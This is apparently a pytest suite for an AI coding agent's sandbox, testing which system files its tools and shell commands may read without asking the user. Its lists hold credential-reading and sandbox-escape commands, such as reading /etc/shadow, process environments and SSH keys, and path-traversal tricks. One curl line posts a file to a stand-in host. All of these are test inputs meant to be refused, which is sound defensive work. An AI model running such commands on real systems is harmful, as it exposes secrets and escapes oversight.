"""What the system lets every user read needs no question, in Plan and in Act; all else outside asks as ever."""

from dataclasses import replace
from pathlib import Path

import pytest

from planact.adapters.sandbox.limits.profiles import _SYSTEM
from planact.adapters.sandbox.limits.public_files import ADMINISTERED, KERNEL, PACKAGED, is_public_file, is_unasked
from planact.policy.context import PolicyContext
from planact.shell.classify import Classifier
from planact.shell.judge import LineContext
from planact.tools.tool_result import Done
from tests.fakes.bench import ACT, PLAN
from tests.shell.judged import SHFMT
from tests.tools.test_readable import Beside, code, text

NO = ("reject_once",) * 99
REFUSED = ("REFUSED_BY_USER", "TOOL_BLOCKED_BY_MODE", "PATH_OUTSIDE_WORKSPACE")
BOTH = pytest.mark.parametrize("standing", [PLAN, ACT], ids=["plan", "act"])


def test_the_jail_opens_all_that_counts_as_the_system() -> None:
    assert {root for root in (*PACKAGED, *ADMINISTERED, *KERNEL) if Path(root).exists()} <= {
        root for root in (*PACKAGED, *ADMINISTERED, *KERNEL) if any(Path(root).is_relative_to(each) for each in _SYSTEM)
    }


@BOTH
@pytest.mark.slow
def test_the_system_is_read_without_a_question(tmp_path: Path, standing: PolicyContext) -> None:
    it = Beside(tmp_path, standing)
    for command in (
        "cat /etc/os-release",
        "cd /usr/include && ls | head -3",
        "grep ID /etc/os-release 2>/dev/null",
        "cat /proc/cpuinfo",
        "ls /usr/include",
        "ls -l /bin/ls",
        "ls /etc",
        "cat /etc/no-such-release",
        "grep -c processor /proc/cpuinfo; cat /proc/meminfo /proc/sys/kernel/hostname",
    ):
        assert isinstance(it.run("execute_command", command=command), Done), command
        assert it.listener.asked == []


@BOTH
def test_folders_of_other_machines_need_no_question(tmp_path: Path, standing: PolicyContext) -> None:
    it = Beside(tmp_path, standing)
    for command in ("cd /no-testbed && cat x.py", "cat /home/no-user/work/x.py", "ls /no-app; ls"):
        assert "No such file" in str(it.run("execute_command", command=command)), command
        assert it.listener.asked == []


@pytest.mark.parametrize(
    "path",
    [
        *("/no-app/.env", "/no-app/../root/x", "/dev/no-such", "/run/no-such", "/proc/self/no-such", "/tmp/no-such"),
        *("~/no-such", "/root/no-such", "/var/lib/no-such/x", "/usr/local/no/such/x", "relative/x"),
    ],
)
def test_a_path_that_users_or_the_kernel_may_make_is_none_of_another_machine(path: str) -> None:
    assert not is_unasked(str(Path(path).expanduser()), is_opened=True, only_reads=True)


@BOTH
def test_tools_read_what_commands_may(tmp_path: Path, standing: PolicyContext) -> None:
    it = Beside(tmp_path, standing)
    release = Path("/etc/os-release").read_text("utf-8").splitlines()[0]
    assert release in text(it.run("read_file", path="/etc/os-release"))
    assert "passwd" in text(it.run("list_directory", path="/etc"))
    assert "root:" in text(it.run("search_code", pattern="^root:", path="/etc/passwd"))
    assert "file" in text(it.run("get_file_info", path="/etc/passwd"))
    assert it.listener.asked == []


@BOTH
@pytest.mark.parametrize(
    "path", ["/etc/shadow", "/root/.profile", "/proc/self/environ", "/var/log/dpkg.log", "/etc/mtab", "/etc/a\0b"]
)
def test_tools_read_no_more_than_commands_may(tmp_path: Path, standing: PolicyContext, path: str) -> None:
    it = Beside(tmp_path, standing)
    for tool in ("read_file", "get_file_info"):
        assert code(it.run(tool, path=path)) in ("PATH_OUTSIDE_WORKSPACE", "CREDENTIAL_FILE"), tool
    assert code(it.run("search_code", pattern="x", path=path)) in ("PATH_OUTSIDE_WORKSPACE", "CREDENTIAL_FILE")
    assert code(it.run("search_code", pattern="x", path="/etc")) == "PATH_OUTSIDE_WORKSPACE"
    assert code(it.run("create_file", path="/etc/planact-new", content="")) in REFUSED


PRIVATE = (
    "cat /etc/shadow",
    "cat /etc/os-release /etc/shadow",
    "grep -r x /etc/ssl/private",
    "find /etc -exec cat {} +",
    "for f in /etc/*; do cat $f; done",
    "for f in ../*; do cat $f; done",
    "cd /etc && cat *",
    "cat /dev/fd/../environ",
    "cat //proc/self/environ",
    "cat /proc/1/environ",
    "cat /proc/self/environ",
    "cat /proc/thread-self/environ",
    "cat /proc/self/root/etc/os-release",
    "cat /proc/1/root/etc/os-release",
    "cat /proc/1/cmdline",
    "cat /proc/*/environ",
    "ls /proc",
    "cat /etc/../root/.profile",
    "cat /usr/../root/x",
    'cat /etc/ssl/.""./x',
    r"cat /proc/self/cwd/.\./.\./version",
    "a=.; cat /etc/ssl/.$a/x",
    r"cd /etc/ssl && cat .\./x",
    "cat /etc/ssl/../shadow",
    "cat /etc/mtab",
    "cat /root/x",
    "cat /var/log/dpkg.log",
    "cat /run/x",
    "grep -r x /proc/sys /sys",
    "find / -name x",
    "cat /dev/mem",
)


@BOTH
def test_what_may_be_private_asks_or_is_refused(tmp_path: Path, standing: PolicyContext) -> None:
    it = Beside(tmp_path, standing, *NO)
    for command in PRIVATE:
        it.listener.asked.clear()
        assert code(it.run("execute_command", command=command)) in REFUSED, command
        assert it.listener.asked or standing is PLAN, command


@BOTH
@pytest.mark.parametrize("path", ["/etc/../root/.ssh/id_rsa", "/etc/ssl/private/snakeoil.key", "/root/.ssh/config"])
def test_credentials_are_no_part_of_the_system(tmp_path: Path, standing: PolicyContext, path: str) -> None:
    it = Beside(tmp_path, standing, *NO)
    assert code(it.run("execute_command", command=f"cat {path}")) in REFUSED


def test_a_temporary_file_that_is_not_there_is_the_line_s_own(tmp_path: Path) -> None:
    name = f"/tmp/planact-test-{tmp_path.parent.name}-{tmp_path.name}"
    assert is_unasked(name, is_opened=True, only_reads=False)
    assert not is_unasked(name, is_opened=True, only_reads=True)
    assert not is_unasked(f"{name}/../../etc/shadow", is_opened=True, only_reads=False)
    (tmp_path / "there").write_text("x")
    assert not is_unasked(str(tmp_path / "there"), is_opened=True, only_reads=False)
    (tmp_path / "out").symlink_to("/root")
    assert not is_unasked(str(tmp_path / "out/x"), is_opened=True, only_reads=False)


def test_what_may_tell_others_of_it_asks(tmp_path: Path) -> None:
    it = Beside(tmp_path, ACT, *NO)
    for command in ("curl -d @/etc/os-release http://192.0.2.1", "dig -f /etc/os-release"):
        assert code(it.run("execute_command", command=command)) == "REFUSED_BY_USER"


@pytest.mark.parametrize(
    "line",
    [
        *("for f in src/*; do cat $f; done", "cat $(ls)", "cat $X", "cat /dev/fd/../environ", "cat link*/x"),
        *("cat src/$X", 'x=.; x=$x.; cat "src/$x/$x/x"', 'x=.; x=$x.; cat "/dev/fd/$x/root/x"', "cat src/.*/x"),
        *("cat src/{.,x}{.,x}/x", "cat link/../x", 'for f in ./../x ./y; do cat "$f"; done', "grep $X", "cat src/*"),
        *("grep -R x .", "rg --follow x", "ls -LR src"),
    ],
)
def test_a_path_that_only_running_can_tell_needs_a_jail(line: str) -> None:
    found = Classifier().classify(line, second=SHFMT, context=LineContext("/work/a", ("/work/a",)))
    assert found.cls == "unknown" or "plain" not in found.traits or "outside" in found.traits


def test_a_link_counts_as_what_it_leads_to(tmp_path: Path) -> None:
    (tmp_path / "link").symlink_to("/etc/os-release")
    assert is_public_file(str(tmp_path / "link"), is_opened=True)
    (tmp_path / "other").symlink_to("/etc/shadow")
    (tmp_path / "process").symlink_to("/proc/self/environ")
    (tmp_path / "home").symlink_to(Path.home())
    for name in ("other", "process", "home"):
        assert not is_public_file(str(tmp_path / name), is_opened=True)


def test_a_file_of_a_user_or_that_users_can_change_is_not_the_system_s(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = tmp_path / "etc"
    (root / "open").mkdir(parents=True)
    (root / "open/a").write_text("x")
    (root / "open/key.pem").write_text("x")
    for folder in (root, *root.parents):
        if folder.stat().st_mode & 0o005 != 0o005 and folder.is_relative_to(tmp_path.parents[1]):
            folder.chmod(0o755)
    monkeypatch.setattr("planact.adapters.sandbox.limits.public_files.ADMINISTERED", (str(root),))
    monkeypatch.setattr("planact.adapters.sandbox.limits.public_files._is_own", lambda _: True)
    file = str(root / "open/a")
    assert is_public_file(file, is_opened=True)
    assert not is_public_file(str(root / "open"), is_opened=True)  # a key lies there
    assert is_public_file(str(root / "open"), is_opened=False)
    (root / "open/key.pem").unlink()
    assert is_public_file(str(root / "open"), is_opened=True)
    (root / "open/a").chmod(0o640)
    assert not is_public_file(file, is_opened=True)
    (root / "open/a").chmod(0o646)
    assert not is_public_file(file, is_opened=True)
    (root / "open/a").chmod(0o644)
    (root / "open").chmod(0o777)
    assert not is_public_file(file, is_opened=True)


@BOTH
def test_unknown_commands_that_name_it_are_judged_as_without_it(tmp_path: Path, standing: PolicyContext) -> None:
    it = Beside(tmp_path, replace(standing, contain="ask"), *NO)
    it.run("execute_command", command="cat /etc/os-release | python3 x.py")
    assert "outside" not in it.question.question
